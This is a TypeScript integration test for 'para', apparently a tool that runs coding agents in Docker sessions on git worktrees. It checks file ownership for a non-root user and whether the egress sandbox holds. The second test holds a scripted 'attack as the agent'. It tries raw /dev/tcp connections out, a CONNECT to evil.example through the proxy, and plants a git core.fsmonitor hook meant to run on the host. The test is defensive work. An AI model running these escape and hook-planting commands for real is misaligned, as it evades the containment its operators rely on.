// A non-root host user, created by the test, whose UID matches the image's agent: sessions work
// with no manual step, the agent's commits reach para/NAME, and the files stay the user's.
// (The rest of the suite runs as whoever runs it; CI runs it as root on root-owned repositories.)
import { execa } from 'execa';
import fs from 'fs-extra';
import path from 'node:path';
import { suite } from 'uvu';
import { waitUntil } from './support/engine.ts';
import * as assert from 'uvu/assert';
import { labels } from '../scripts/lib/config.ts';
import { docker } from '../scripts/lib/engine/docker.ts';
import { scriptCommand, SESSION_IMAGE, sessionTestImage, detachedArgs, testEgressImage } from './support/images.ts';
import { RUN_ID, TEST_LABEL, onCleanup, tempDir, trackImage, uniqueName } from './support/resources.ts';

const AUTH_IMAGE = SESSION_IMAGE;
const USER_IMAGE = trackImage(`para-hosts-test-${RUN_ID}:user`);
const user = { name: `pt${RUN_ID}`, uid: 0, home: '', repo: '' };

async function freeId(): Promise<number> {
  for (let id = 23_000 + (parseInt(RUN_ID.slice(0, 3), 16) % 1000); id < 60_000; id += 1) {
    const taken = await Promise.all([execa('getent', ['passwd', String(id)], { reject: false }), execa('getent', ['group', String(id)], { reject: false })]);
    if (taken.every((r) => r.exitCode !== 0)) return id;
  }
  throw new Error('no free UID');
}

/** Runs a command as the test user, with that user's HOME and git identity. */
function asUser(command: string, args: string[], options: { cwd?: string } = {}) {
  return execa('setpriv', [`--reuid=${user.uid}`, `--regid=${user.uid}`, '--init-groups', '--', command, ...args], {
    cwd: options.cwd ?? user.repo,
    env: {
      HOME: user.home,
      PATH: process.env.PATH,
      GIT_CONFIG_NOSYSTEM: '1',
      PARA_EXTRA_LABELS: `${TEST_LABEL}=${RUN_ID}`,
      PARA_EGRESS_IMAGE: process.env.PARA_EGRESS_IMAGE,
      TMPDIR: user.home,
    },
    extendEnv: false,
    reject: false,
    stdin: 'ignore',
    timeout: 5 * 60_000,
  });
}

function para(script: string, args: string[]) {
  const [command, ...entry] = scriptCommand(script);
  return asUser(command, [...entry, ...args]);
}

const nonRoot = suite("a non-root host user whose UID is the image's");

nonRoot.before(async () => {
  if (process.getuid?.() !== 0) return;
  await Promise.all([sessionTestImage(), testEgressImage()]);
  user.uid = await freeId();
  await execa('groupadd', ['-g', String(user.uid), user.name]);
  await execa('useradd', ['-M', '-u', String(user.uid), '-g', String(user.uid), '-G', 'docker', '-s', '/bin/sh', user.name]);
  onCleanup(async () => {
    await execa('userdel', [user.name], { reject: false });
    await execa('groupdel', [user.name], { reject: false });
  });
  // The user's own home, as a new account would have.
  user.home = await tempDir('para-test-user-home-');
  await fs.chown(user.home, user.uid, user.uid);
  // The image a user with this UID gets from make image: the agent has the user's UID/GID.
  const context = await tempDir('para-test-user-image-');
  await fs.writeFile(
    path.join(context, 'Dockerfile'),
    [
      `FROM ${AUTH_IMAGE}`,
      'USER root',
      `RUN groupmod -g ${user.uid} para && usermod -u ${user.uid} -g ${user.uid} para && chown -R ${user.uid}:${user.uid} /home/para`,
      'USER para',
      `LABEL ${labels.uid}=${user.uid} ${labels.gid}=${user.uid}`,
    ].join('\n'),
  );
  await docker(['build', '-q', '-t', USER_IMAGE, context], { env: { DOCKER_BUILDKIT: '0' } });
  user.repo = path.join(user.home, 'project');
  for (const args of [
    ['init', '-q', '-b', 'main', user.repo],
    ['-C', user.repo, 'config', 'user.name', 'Host User'],
    ['-C', user.repo, 'config', 'user.email', 'user@example.invalid'],
  ]) {
    const result = await asUser('git', args, { cwd: user.home });
    assert.is(result.exitCode, 0, result.stderr);
  }
  await asUser('sh', ['-c', 'echo hello > README.md && git add README.md && git commit -qm initial']);
  onCleanup(async () => {
    const ids = (await docker(['ps', '-aq', '--filter', `label=${labels.repo}=${user.repo}`])).stdout.split('\n').filter(Boolean);
    if (ids.length) await docker(['rm', '-f', ...ids], { allowFailure: true });
    const volumes = (await docker(['volume', 'ls', '-q', '--filter', `label=${labels.repo}=${user.repo}`])).stdout.split('\n').filter(Boolean);
    if (volumes.length) await docker(['volume', 'rm', ...volumes], { allowFailure: true });
  });
});

nonRoot("start, a commit inside, logs, sync, list, finish, cancel and clean all work; files stay the user's and editable", async () => {
  if (process.getuid?.() !== 0) return; // needs root to create the user; as a non-root runner every other test is this case
  const started = await para(
    'start.ts',
    detachedArgs('work', USER_IMAGE, '--', 'sh', '-c', 'echo from-agent > agent.txt && git add agent.txt && git commit -qm "agent commit"'),
  );
  assert.is(started.exitCode, 0, started.stderr);
  const followed = await para('logs.ts', ['work', '-f']);
  assert.is(followed.exitCode, 0, followed.stderr);
  const synced = await para('sync.ts', ['work']);
  assert.is(synced.exitCode, 0, synced.stderr);
  const subject = await asUser('git', ['log', '-1', '--format=%s', 'para/work']);
  assert.is(subject.stdout, 'agent commit');
  const file = path.join(user.repo, '.para', 'worktrees', 'work', 'agent.txt');
  assert.is((await fs.stat(file)).uid, user.uid);
  const edited = await asUser('sh', ['-c', `echo "edited by the user" >> '${file}'`]);
  assert.is(edited.exitCode, 0, edited.stderr);
  // The session reports a change made beside it (not through git or claude) within its next full look (10 s).
  await waitUntil(
    'list to show the edit',
    async () => {
      const listed = await para('list.ts', ['--json']);
      assert.is(listed.exitCode, 0, listed.stderr);
      return JSON.parse(listed.stdout).sessions[0].uncommittedChanges === true;
    },
    30_000,
  );
  const finished = await para('finish.ts', ['work', '-m', "the user's edit"]);
  assert.is(finished.exitCode, 0, finished.stderr);
  const content = await asUser('git', ['show', 'para/work:agent.txt']);
  assert.is(content.stdout, 'from-agent\nedited by the user');
  // Every object para wrote into the user's repository belongs to the user.
  const foreign = await execa('find', [path.join(user.repo, '.git'), '!', '-uid', String(user.uid)]);
  assert.is(foreign.stdout, '', "files in the user's .git are not the user's");
  const again = await para('start.ts', ['other', '--container', '--detach', '--network', 'none', '--image', USER_IMAGE, '--', 'sh', '-c', 'echo x > x.txt']);
  assert.is(again.exitCode, 0, again.stderr);
  assert.is((await para('logs.ts', ['other', '-f'])).exitCode, 0);
  const cancelled = await para('cancel.ts', ['other', '--force', '--json']);
  assert.is(cancelled.exitCode, 0, cancelled.stderr);
  const archived = JSON.parse(cancelled.stdout).archivedBranch as string;
  assert.is((await asUser('git', ['show', `${archived}:x.txt`])).stdout, 'x');
  const cleaned = await para('clean.ts', []);
  assert.is(cleaned.exitCode, 0, cleaned.stderr);
  const fsck = await asUser('git', ['fsck', '--strict', '--no-progress']);
  assert.is(fsck.exitCode, 0, fsck.stderr);
});

nonRoot(
  "the default egress and a session in its volume (--engine remote), attacked as the agent: the user's repository stays the user's and intact",
  async () => {
    if (process.getuid?.() !== 0) return;
    const network = uniqueName('para-hosts-net');
    await docker(['network', 'create', '--label', `${TEST_LABEL}=${RUN_ID}`, network]);
    onCleanup(() => docker(['network', 'rm', network], { allowFailure: true }));
    const refsBefore = (await asUser('git', ['for-each-ref', '--format=%(refname) %(objectname)'])).stdout;
    // The agent tries every way out but the proxy, and plants what root in the container could follow.
    const attack = [
      "timeout 3 bash -c 'exec 3<>/dev/tcp/1.1.1.1/443' 2>/dev/null && echo OUT-BY-ADDRESS",
      "printf 'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -n 1 <&3'",
      'echo agent > agent.txt && git add agent.txt && git commit -qm agent',
      'git config core.fsmonitor "touch /tmp/fsmonitor-ran; true"',
      'echo uncommitted > wip.txt',
    ].join('; ');
    const started = await para('start.ts', [
      'guarded',
      '--container',
      '--detach',
      '--engine',
      'remote',
      '--egress-network',
      network,
      '--image',
      USER_IMAGE,
      '--',
      'bash',
      '-c',
      attack,
    ]);
    assert.is(started.exitCode, 0, started.stderr);
    const logs = await para('logs.ts', ['guarded', '-f']);
    assert.not.match(logs.stdout, 'OUT-BY-ADDRESS');
    assert.match(logs.stdout, 'HTTP/1.1 403');
    const files = await para('sync.ts', ['guarded', '--files', '--json']);
    assert.is(files.exitCode, 0, files.stderr);
    const finished = await para('finish.ts', ['guarded', '-m', 'done']);
    assert.is(finished.exitCode, 0, finished.stderr);
    assert.is((await asUser('git', ['show', 'para/guarded:wip.txt'])).stdout, 'uncommitted');
    assert.is((await asUser('git', ['log', '-1', '--format=%s', 'para/guarded~1'])).stdout, 'agent');
    // The host: refs outside para/ unchanged, the main checkout clean, nothing of root's in .git, fsck clean.
    const refsAfter = (await asUser('git', ['for-each-ref', '--format=%(refname) %(objectname)'])).stdout;
    const outside = (text: string) =>
      text
        .split('\n')
        .filter((line) => !line.startsWith('refs/heads/para/'))
        .join('\n');
    assert.is(outside(refsAfter), outside(refsBefore));
    assert.is((await asUser('git', ['status', '--porcelain'])).stdout, '');
    assert.is((await execa('find', [path.join(user.repo, '.git'), '!', '-uid', String(user.uid)])).stdout, '');
    assert.not.ok(await fs.pathExists('/tmp/fsmonitor-ran'), "the agent's fsmonitor ran on the host");
    assert.is((await asUser('git', ['fsck', '--strict', '--no-progress'])).exitCode, 0);
    assert.is((await docker(['ps', '-aq', '--filter', `label=${labels.repo}=${user.repo}`, '--filter', `label=${labels.session}=guarded`])).stdout.trim(), '');
  },
);

nonRoot.run();
